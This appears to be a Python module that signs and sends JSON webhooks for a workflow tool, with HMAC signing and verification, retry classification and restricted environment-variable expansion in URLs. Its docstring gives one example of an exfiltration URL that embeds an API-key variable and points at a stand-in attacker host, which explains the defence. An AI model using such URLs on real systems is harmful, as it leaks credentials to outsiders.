"""Signed JSON webhooks: the payload, the signature, and the POST with its failures sorted.

Every webhook is one JSON POST (payload documented in docs/notifications.md) with these headers:

- `X-Iterloop-Event`: `gate_opened`, `run_finished` or `run_failed`;
- `X-Iterloop-Event-Id` and `Idempotency-Key`: the notification's id, the same on every retry,
  so a receiver can drop duplicates;
- `X-Iterloop-Timestamp`: Unix seconds when this attempt was sent;
- `X-Iterloop-Signature`: `sha256=<hex>`, the HMAC-SHA256 of `<timestamp>.<raw body>` keyed
  with `ITERLOOP_WEBHOOK_SECRET` (absent when no secret is configured). Receivers recompute it
  over the raw bytes, compare in constant time and reject old timestamps (`verify_signature`).

2xx is delivered. 408, 425, 429 and 5xx, timeouts and connection errors are retried (after the
receiver's `Retry-After` when it sends one); any other answer, redirects included, is permanent
(`NOTIFY_FAILURES` in `activities.http_errors`).
Failures name the status code and its reason phrase only: a receiver's response body never
reaches the activity's result or error, which land in the run's history.

**`${ENV}` in webhook URLs.** Whoever may start a run (any API writer) chooses its webhook URLs, so
a URL must not be able to read the worker's secrets: `https://evil.example/?k=${ANTHROPIC_API_KEY}`
would send the key away. Only variables whose names start with `ITERLOOP_WEBHOOK_` are expanded
(`https://hooks.example/${ITERLOOP_WEBHOOK_TOKEN}`); a URL that refers to any other variable, or
to one that is not set on the worker, is refused (non-retryable) naming the variable.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import time
from collections.abc import Mapping
from datetime import datetime, timezone
from typing import Any

import httpx

from activities.http_errors import NOTIFY_FAILURES
from activities.http_retry import retry_delay_from_headers
from activities.notify.errors import Permanent, Transient
from workflows.contract.env_refs import expand_env, referenced_names
from workflows.contract.messages import NotifyRequest

EVENT_HEADER = "X-Iterloop-Event"
EVENT_ID_HEADER = "X-Iterloop-Event-Id"
TIMESTAMP_HEADER = "X-Iterloop-Timestamp"
SIGNATURE_HEADER = "X-Iterloop-Signature"
USER_AGENT = "iterloop-webhooks/1"
#: The only environment variables a webhook URL may refer to.
URL_VAR_PREFIX = "ITERLOOP_WEBHOOK_"


def expand_webhook_url(target: str, url: str, env: Mapping[str, str] | None = None) -> str:
    """``url`` with its `${ITERLOOP_WEBHOOK_…}` references expanded from ``env`` (default: the
    worker's environment); any other reference, or an unset one, is a `Permanent` failure of
    ``target`` naming the variable (never its value)."""
    env = os.environ if env is None else env
    for name in referenced_names(url):
        if not name.startswith(URL_VAR_PREFIX):
            raise Permanent(target, f"the URL refers to the environment variable '{name}', and webhook URLs may only "
                                    f"use variables whose names start with {URL_VAR_PREFIX} (anyone who can start a "
                                    f"run chooses its URLs): put the value in {URL_VAR_PREFIX}… on the worker")
        if name not in env:
            raise Permanent(target, f"the URL refers to '{name}', which is not set on the worker")
    return expand_env(url, env)


def webhook_payload(req: NotifyRequest, *, event_id: str, occurred_at: datetime,
                    sent_at: datetime) -> dict[str, Any]:
    gate = None
    if req.event == "gate_opened":
        schema = req.answer_schema
        gate = {
            "id": req.gate,
            "interaction_id": req.interaction_id,
            "instructions": req.instructions,
            "questions": req.questions,
            "answer_schema": None if schema is None else {
                "name": schema.name,
                "fields": [{"name": f.name, "type": f.type, "enum": f.enum_values} for f in schema.fields]},
        }
    return {
        "id": event_id,
        "event": req.event,
        "occurred_at": _iso(occurred_at),
        "sent_at": _iso(sent_at),
        "run_id": req.run_id,
        "workflow": req.workflow,
        "status": req.status or ("waiting_human" if req.event == "gate_opened" else ""),
        "reason": req.reason,
        "ui_url": req.ui_url,
        "gate": gate,
        "usage": req.usage.model_dump(),
    }


def signature(secret: str, timestamp: int | str, body: bytes) -> str:
    """`sha256=<hex>` of HMAC-SHA256(secret, `<timestamp>.<body>`)."""
    mac = hmac.new(secret.encode(), f"{timestamp}.".encode() + body, hashlib.sha256)
    return "sha256=" + mac.hexdigest()


def verify_signature(secret: str, *, timestamp: str, body: bytes, header: str, now: float | None = None,
                     tolerance_seconds: float = 300) -> bool:
    """What a receiver checks: the signature matches (constant time) and the timestamp is recent."""
    try:
        age = abs((time.time() if now is None else now) - int(timestamp))
    except ValueError:
        return False
    return age <= tolerance_seconds and hmac.compare_digest(signature(secret, timestamp, body), header)


class WebhookSender:
    """POSTs signed payloads; one instance per activity attempt (it holds a connection pool)."""

    def __init__(self, secret: str, *, timeout_seconds: float = 10.0,
                 transport: httpx.AsyncBaseTransport | None = None) -> None:
        self.secret = secret
        self.client = httpx.AsyncClient(timeout=timeout_seconds, follow_redirects=False, transport=transport,
                                        headers={"User-Agent": USER_AGENT})

    async def __aenter__(self) -> WebhookSender:
        return self

    async def __aexit__(self, *exc: object) -> None:
        await self.client.aclose()

    async def send(self, target: str, url: str, payload: dict[str, Any]) -> None:
        """POST ``payload`` to ``url`` (already `${ENV}`-expanded); ``target`` names it in errors.

        Messages name ``target`` (the URL as configured) and never ``url``, which may hold a secret.
        """
        if not url.startswith(("http://", "https://")):
            raise Permanent(target, "a webhook URL must start with http:// or https:// (after ${ENV} expansion)")
        body = json.dumps(payload, separators=(",", ":"), ensure_ascii=False, default=str).encode()
        timestamp = str(int(time.time()))
        headers = {"Content-Type": "application/json", EVENT_HEADER: payload["event"],
                   EVENT_ID_HEADER: payload["id"], "Idempotency-Key": payload["id"], TIMESTAMP_HEADER: timestamp}
        if self.secret:
            headers[SIGNATURE_HEADER] = signature(self.secret, timestamp, body)
        try:
            response = await self.client.post(url, content=body, headers=headers)
        except httpx.InvalidURL:
            raise Permanent(target, "not a valid URL (after ${ENV} expansion)") from None
        except httpx.TransportError as err:
            raise Transient(target, f"webhook could not be reached ({type(err).__name__})") from None
        status = response.status_code
        if 200 <= status < 300:
            return
        answered = f"HTTP {status} {response.reason_phrase}".rstrip()  # never the body: it would enter history
        if NOTIFY_FAILURES.retryable(status):
            raise Transient(target, f"webhook answered {answered}",
                            retry_after=retry_delay_from_headers(response.headers))
        if 300 <= status < 400:
            raise Permanent(target, f"webhook answered {answered} (redirects are not followed): "
                                    "configure the final URL")
        raise Permanent(target, f"webhook refused the notification ({answered})")


def _iso(when: datetime) -> str:
    if when.tzinfo is None:
        when = when.replace(tzinfo=timezone.utc)
    return when.astimezone(timezone.utc).isoformat().replace("+00:00", "Z")
